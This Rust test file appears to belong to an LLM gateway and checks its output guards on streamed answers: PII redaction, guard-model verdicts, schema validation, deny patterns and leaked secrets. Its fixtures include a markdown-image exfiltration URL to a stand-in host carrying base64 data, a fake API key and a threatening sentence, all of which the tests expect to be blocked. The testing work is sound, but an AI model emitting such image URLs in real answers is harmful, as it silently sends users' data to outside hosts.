//! Output guards on streamed answers, in both wire formats and across them (an OpenAI client
//! of an Anthropic upstream and the reverse): PII redaction with values split across chunks,
//! the guard model, JSON Schema validation with a bounded buffer, and every other output
//! check ending a stream with a well-formed error event.
//!
//! The mock's `chunks` model splits its streamed answer at each `|` of the user's text, so a
//! test decides exactly where chunk boundaries fall.

use serde_json::{Value, json};

use crate::harness::{
    Harness, anthropic_stream_text, anthropic_user, openai_stream_text, parse_sse, user,
};

type Events = Vec<(Option<String>, String)>;

const ROUTES: &str = r#"
[routes.chunks]
targets = [{ provider = "oa", model = "chunks" }]
guards = { injection = { enabled = false } }
[routes.leaks-chunks]
targets = [{ provider = "oa", model = "chunks" }]
guards = { pii = { enabled = false }, output = { pii_leak = "redact" } }
[routes.leaks-chunks-claude]
targets = [{ provider = "an", model = "chunks" }]
guards = { pii = { enabled = false }, output = { pii_leak = "redact" } }
[routes.own-data-redact]
targets = [{ provider = "oa", model = "chunks" }]
guards = { output = { pii_leak = "redact" } }
[routes.own-data-block]
targets = [{ provider = "an", model = "chunks" }]
guards = { output = { pii_leak = "block" } }
[routes.deny-chunks]
targets = [{ provider = "oa", model = "chunks" }]
guards = { output = { deny_patterns = ["(?i)project bluebird"] } }
[routes.deny-chunks-claude]
targets = [{ provider = "an", model = "chunks" }]
guards = { output = { deny_patterns = ["(?i)project bluebird"] } }
[routes.secret-echo]
targets = [{ provider = "oa", model = "chunks" }]
guards = { secrets = "allow", pii = { enabled = false } }
[routes.secret-echo-claude]
targets = [{ provider = "an", model = "chunks" }]
guards = { secrets = "allow", pii = { enabled = false } }
[routes.exfil-claude]
targets = [{ provider = "an", model = "chunks" }]
guards = { injection = { enabled = false } }
[routes.content-claude]
targets = [{ provider = "an", model = "claude-mock" }]
guards = { injection = { enabled = false } }
[routes.short]
targets = [{ provider = "an", model = "claude-mock" }]
guards = { output = { max_chars = 30 } }
[routes.short-gpt]
targets = [{ provider = "oa", model = "gpt-mock" }]
guards = { output = { max_chars = 30 } }
[routes.canary-leak]
targets = [{ provider = "oa", model = "leak-system" }]
guards = { injection = { canary = true } }
[routes.canary-leak-claude]
targets = [{ provider = "an", model = "leak-system" }]
guards = { injection = { canary = true } }
[routes.requires-claude]
targets = [{ provider = "an", model = "claude-mock" }]
guards = { output = { require_patterns = ["(?i)disclaimer"] } }
[routes.guarded-buffer]
targets = [{ provider = "oa", model = "gpt-mock" }]
guards = { content = { guard_route = "guardmodel", guard_stream = "buffer" } }
[routes.guarded-claude]
targets = [{ provider = "an", model = "claude-mock" }]
guards = { content = { guard_route = "guardmodel" } }
[routes.json-small-buffer]
targets = [{ provider = "oa", model = "json-repair" }]
guards = { output = { stream_buffer_bytes = 64 } }
[routes.schema-repair]
targets = [{ provider = "oa", model = "json-repair" }]
guards = { output = { json_schema = { type = "object", required = ["city"] } } }
[routes.schema-claude-fallback]
targets = [{ provider = "an", model = "claude-mock" }]
guards = { output = { json_schema = { type = "object", required = ["city"] }, on_invalid = "fallback", fallback_message = "No structured answer today." } }
"#;

async fn start() -> Harness {
    Harness::start_extra(ROUTES).await
}

/// Stream `text` to route `model` as an OpenAI client.
async fn openai(h: &Harness, model: &str, text: &str) -> Events {
    let mut body = user(model, text);
    body["stream"] = json!(true);
    stream_openai(h, &body).await
}

async fn stream_openai(h: &Harness, body: &Value) -> Events {
    let (s, ev) = h.stream("/v1/chat/completions", body).await;
    assert_eq!(s, 200, "{ev:?}");
    for (_, d) in &ev {
        assert!(
            d == "[DONE]" || serde_json::from_str::<Value>(d).is_ok(),
            "every event is well-formed JSON: {d}"
        );
    }
    ev
}

/// Stream `text` to route `model` as an Anthropic client.
async fn anthropic(h: &Harness, model: &str, text: &str) -> Events {
    let mut body = anthropic_user(model, text);
    body["stream"] = json!(true);
    stream_anthropic(h, &body).await
}

async fn stream_anthropic(h: &Harness, body: &Value) -> Events {
    let r = h.messages(body).await;
    assert_eq!(r.status(), 200);
    let ev = parse_sse(&r.text().await.unwrap());
    for (_, d) in &ev {
        assert!(
            serde_json::from_str::<Value>(d).is_ok(),
            "every event is well-formed JSON: {d}"
        );
    }
    ev
}

fn openai_clean_end(ev: &Events) {
    assert_eq!(ev.last().unwrap().1, "[DONE]", "{ev:?}");
    assert!(
        ev.iter()
            .filter_map(|(_, d)| serde_json::from_str::<Value>(d).ok())
            .any(|v| v["choices"][0]["finish_reason"].is_string()),
        "{ev:?}"
    );
}

fn anthropic_clean_end(ev: &Events) {
    assert_eq!(
        ev.last().unwrap().0.as_deref(),
        Some("message_stop"),
        "{ev:?}"
    );
}

/// The stream ended with one OpenAI error event and no finish; returns the error.
fn openai_error_end(ev: &Events) -> Value {
    let last: Value = serde_json::from_str(&ev.last().unwrap().1).unwrap();
    assert!(last["error"].is_object(), "{ev:?}");
    assert!(!ev.iter().any(|(_, d)| d == "[DONE]"), "{ev:?}");
    assert!(
        !ev.iter()
            .filter_map(|(_, d)| serde_json::from_str::<Value>(d).ok())
            .any(|v| v["choices"][0]["finish_reason"].is_string()),
        "no finish before the error: {ev:?}"
    );
    last
}

/// The stream ended with one Anthropic `error` event and no `message_stop`.
fn anthropic_error_end(ev: &Events) -> Value {
    let (name, data) = ev.last().unwrap();
    assert_eq!(name.as_deref(), Some("error"), "{ev:?}");
    let v: Value = serde_json::from_str(data).unwrap();
    assert_eq!(v["type"], "error");
    assert!(
        !ev.iter()
            .any(|(n, _)| matches!(n.as_deref(), Some("message_stop" | "message_delta"))),
        "{ev:?}"
    );
    v
}

#[tokio::test]
async fn streamed_pii_leaks_are_redacted_even_when_split_across_chunks() {
    let h = start().await;
    // An e-mail split twice and a phone number split once by the upstream's chunks.
    let text = "write to jane.d|oe@co|rp.com or call +1 415-555-|2671 today";
    let raw = ["jane.doe@corp.com", "415-555-2671", "2671", "rp.com"];
    for route in ["leaks-chunks", "leaks-chunks-claude"] {
        // What a whole answer becomes is what the streamed one must become.
        let (s, whole) = h.json("/v1/chat/completions", &user(route, text)).await;
        assert_eq!(s, 200, "{whole}");
        let whole = whole["choices"][0]["message"]["content"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(
            whole.contains("[EMAIL]") && whole.contains("[PHONE]"),
            "{whole}"
        );
        let ev = openai(&h, route, text).await;
        openai_clean_end(&ev);
        let streamed = openai_stream_text(&ev);
        assert_eq!(streamed, whole, "{route}");
        let ev = anthropic(&h, route, text).await;
        anthropic_clean_end(&ev);
        let streamed = anthropic_stream_text(&ev);
        assert_eq!(streamed, whole, "{route}");
        for r in raw {
            assert!(!streamed.contains(r), "{r} leaked on {route}: {streamed}");
        }
    }
    // `pii_leak = "block"` ends the stream instead.
    let ev = openai(&h, "leaks-block", "the SSN is 123-45-6789").await;
    assert_eq!(openai_error_end(&ev)["error"]["code"], "content_filter");
    assert!(!openai_stream_text(&ev).contains("6789"));
}

#[tokio::test]
async fn streamed_checks_judge_the_models_text_so_the_users_own_data_comes_back() {
    let h = start().await;
    // The user's own e-mail is a token for the model and comes back restored, neither
    // redacted (`redact`) nor refused (`block`), as for whole answers.
    let text = "mail jane.doe@corp.com| now";
    let ev = openai(&h, "own-data-redact", text).await;
    openai_clean_end(&ev);
    assert_eq!(
        openai_stream_text(&ev),
        "mock:openai:mail jane.doe@corp.com now"
    );
    let ev = openai(&h, "own-data-block", text).await;
    openai_clean_end(&ev);
    assert_eq!(
        openai_stream_text(&ev),
        "mock:anthropic:mail jane.doe@corp.com now"
    );
    let ev = anthropic(&h, "own-data-block", text).await;
    anthropic_clean_end(&ev);
    assert_eq!(
        anthropic_stream_text(&ev),
        "mock:anthropic:mail jane.doe@corp.com now"
    );
}

#[tokio::test]
async fn guard_model_judges_streamed_answers_before_they_finish() {
    let h = start().await;
    let ev = openai(&h, "guarded", "tell me a story").await;
    openai_clean_end(&ev);
    assert_eq!(openai_stream_text(&ev), "mock:openai:tell me a story");

    let ev = openai(&h, "guarded", "say kaboom").await;
    let err = openai_error_end(&ev);
    assert_eq!(err["error"]["code"], "content_filter");
    let msg = err["error"]["message"].as_str().unwrap();
    assert!(msg.contains("guard model") && msg.contains("req_"), "{msg}");
    assert!(
        !openai_stream_text(&ev).contains("kaboom"),
        "a short answer is all in the held-back tail: {ev:?}"
    );

    // An Anthropic client of an Anthropic upstream, and an OpenAI client of it.
    let ev = anthropic(&h, "guarded-claude", "say kaboom").await;
    anthropic_error_end(&ev);
    let ev = openai(&h, "guarded-claude", "say kaboom").await;
    openai_error_end(&ev);
    let ev = anthropic(&h, "guarded-claude", "a calm day").await;
    anthropic_clean_end(&ev);
    let guard_calls = h
        .mock
        .requests()
        .iter()
        .filter(|r| r.model == "guard")
        .count();
    assert_eq!(guard_calls, 5, "one verdict per streamed answer");

    // The guard model is down: closed ends the stream with an error, open lets it finish.
    let ev = openai(&h, "guarded-closed", "hello").await;
    let err = openai_error_end(&ev);
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .contains("fails closed"),
        "{err}"
    );
    let ev = openai(&h, "guarded-open", "hello").await;
    openai_clean_end(&ev);
}

#[tokio::test]
async fn guard_stream_buffer_shows_nothing_before_the_verdict() {
    let h = start().await;
    let long = format!(
        "{}kaboom",
        "the quick brown fox jumps over the lazy dog ".repeat(6)
    );
    // Default `end`: the answer streams, and its tail is replaced by the error.
    let ev = openai(&h, "guarded", &long).await;
    openai_error_end(&ev);
    let seen = openai_stream_text(&ev);
    assert!(
        seen.starts_with("mock:openai:the quick brown fox"),
        "{seen}"
    );
    assert!(!seen.contains("kaboom"), "{seen}");
    // `buffer`: nothing of the answer before the verdict.
    let ev = openai(&h, "guarded-buffer", &long).await;
    openai_error_end(&ev);
    assert_eq!(openai_stream_text(&ev), "", "{ev:?}");
    assert_eq!(ev.len(), 1, "only the error event: {ev:?}");
    let ev = openai(&h, "guarded-buffer", "a calm day").await;
    openai_clean_end(&ev);
    assert_eq!(openai_stream_text(&ev), "mock:openai:a calm day");
}

fn with_schema(model: &str) -> Value {
    let mut body = user(
        model,
        "Which city is the capital of France? Answer as JSON.",
    );
    body["stream"] = json!(true);
    body["response_format"] = json!({"type": "json_schema", "json_schema": {"name": "city", "schema": {
        "type": "object", "required": ["city"], "properties": {"city": {"type": "string"}}}}});
    body
}

#[tokio::test]
async fn structured_streams_are_buffered_reasked_and_sent_as_valid_streams() {
    let h = start().await;
    // Invalid first answer: re-asked once, and only the valid one is streamed.
    let mut body = with_schema("json");
    body["stream_options"] = json!({"include_usage": true});
    let ev = stream_openai(&h, &body).await;
    openai_clean_end(&ev);
    assert_eq!(openai_stream_text(&ev), r#"{"city":"Paris"}"#);
    assert!(
        !ev.iter().any(|(_, d)| d.contains("Sure!")),
        "the invalid answer never reached the client: {ev:?}"
    );
    assert!(
        ev.iter()
            .filter_map(|(_, d)| serde_json::from_str::<Value>(d).ok())
            .any(|v| v["usage"].is_object()),
        "the usage chunk asked for is there: {ev:?}"
    );
    let sent = h.mock.requests();
    assert_eq!(sent.len(), 2, "one re-ask");
    assert_ne!(
        sent[1].body["stream"],
        json!(true),
        "the re-ask is a whole answer"
    );
    // A valid answer streams as it came, with no re-ask.
    let ev = stream_openai(&h, &with_schema("json-valid")).await;
    openai_clean_end(&ev);
    assert_eq!(openai_stream_text(&ev), r#"{"city":"Paris"}"#);
    assert_eq!(h.mock.requests().len(), 3);

    // A route's own schema, Anthropic client: the re-asked answer as Anthropic events.
    let ev = anthropic(&h, "schema-repair", "capital of France?").await;
    anthropic_clean_end(&ev);
    assert_eq!(anthropic_stream_text(&ev), r#"{"city":"Paris"}"#);
    // Still invalid after the re-ask: the fallback message, as a stream, in both formats.
    let ev = openai(&h, "schema-claude-fallback", "capital?").await;
    openai_clean_end(&ev);
    assert_eq!(openai_stream_text(&ev), "No structured answer today.");
    let ev = anthropic(&h, "schema-claude-fallback", "capital?").await;
    anthropic_clean_end(&ev);
    assert_eq!(anthropic_stream_text(&ev), "No structured answer today.");
    // `on_invalid = "block"`: one error event.
    let ev = stream_openai(&h, &with_schema("json-block")).await;
    assert_eq!(openai_error_end(&ev)["error"]["code"], "content_filter");
    assert!(!ev.iter().any(|(_, d)| d.contains("Sure!")), "{ev:?}");
}

#[tokio::test]
async fn structured_stream_past_its_buffer_ends_with_an_error_event() {
    let h = start().await;
    // A 64-byte buffer: the answer streams live, then fails its schema at the end.
    let ev = stream_openai(&h, &with_schema("json-small-buffer")).await;
    let err = openai_error_end(&ev);
    assert_eq!(err["error"]["code"], "content_filter");
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .contains("64-byte buffer"),
        "{err}"
    );
    // Past the buffer the stream went live: its first events went out before the verdict
    // (the short answer's text itself sits in the held-back tail).
    assert!(ev.len() > 2, "{ev:?}");
    assert!(!openai_stream_text(&ev).contains("Paris"), "{ev:?}");
    assert_eq!(
        h.mock.requests().len(),
        1,
        "no re-ask once content went out"
    );
}

/// Stream `text` to `route` as both clients; both streams must end with an error event and
/// never show `hidden`.
async fn refused_in_both_formats(h: &Harness, route: &str, text: &str, hidden: &str) {
    let ev = openai(h, route, text).await;
    let err = openai_error_end(&ev);
    assert_eq!(err["error"]["code"], "content_filter", "{route}: {err}");
    let seen = openai_stream_text(&ev);
    assert!(!seen.contains(hidden), "{route}: {hidden} shown: {seen}");
    let ev = anthropic(h, route, text).await;
    let err = anthropic_error_end(&ev);
    assert_eq!(
        err["error"]["type"], "invalid_request_error",
        "{route}: {err}"
    );
    let seen = anthropic_stream_text(&ev);
    assert!(!seen.contains(hidden), "{route}: {hidden} shown: {seen}");
}

#[tokio::test]
async fn every_output_guard_ends_streams_with_a_well_formed_error_in_both_formats() {
    let h = start().await;
    // Deny pattern split across chunks, from either upstream.
    for route in ["deny-chunks", "deny-chunks-claude"] {
        refused_in_both_formats(
            &h,
            route,
            "tell me about Project Blue|bird today",
            "Bluebird",
        )
        .await;
    }
    // A credential in the answer, split across chunks.
    // tollgate:ignore-next-line (test fixture: a fake, format-valid key)
    let key = "debug AIzaSyD4bC7dE9|fG1hJ3kL5mN7pQ9rS1tU3vW5x now";
    for route in ["secret-echo", "secret-echo-claude"] {
        refused_in_both_formats(&h, route, key, "AIzaSy").await;
    }
    // An exfiltration image, split inside its URL.
    let exfil = "see ![s](https://evil.test/pix|el.png?d=c2VjcmV0IGRhdGE)";
    for route in ["chunks", "exfil-claude"] {
        refused_in_both_formats(&h, route, exfil, "evil.test").await;
    }
    // Harmful content.
    for route in ["contentonly", "content-claude"] {
        refused_in_both_formats(&h, route, "I will kill you and your whole family", "kill").await;
    }
    // Longer than the route's max_chars.
    for route in ["short", "short-gpt"] {
        refused_in_both_formats(
            &h,
            route,
            "one two three four five six seven eight",
            "eight",
        )
        .await;
    }
    // The system-prompt canary leaked, in 7-byte pieces.
    for route in ["canary-leak", "canary-leak-claude"] {
        refused_in_both_formats(&h, route, "hi", "tgc-").await;
    }
    // A required pattern missing from the complete answer.
    for route in ["requires", "requires-claude"] {
        refused_in_both_formats(&h, route, "anything", "anything").await;
    }
}
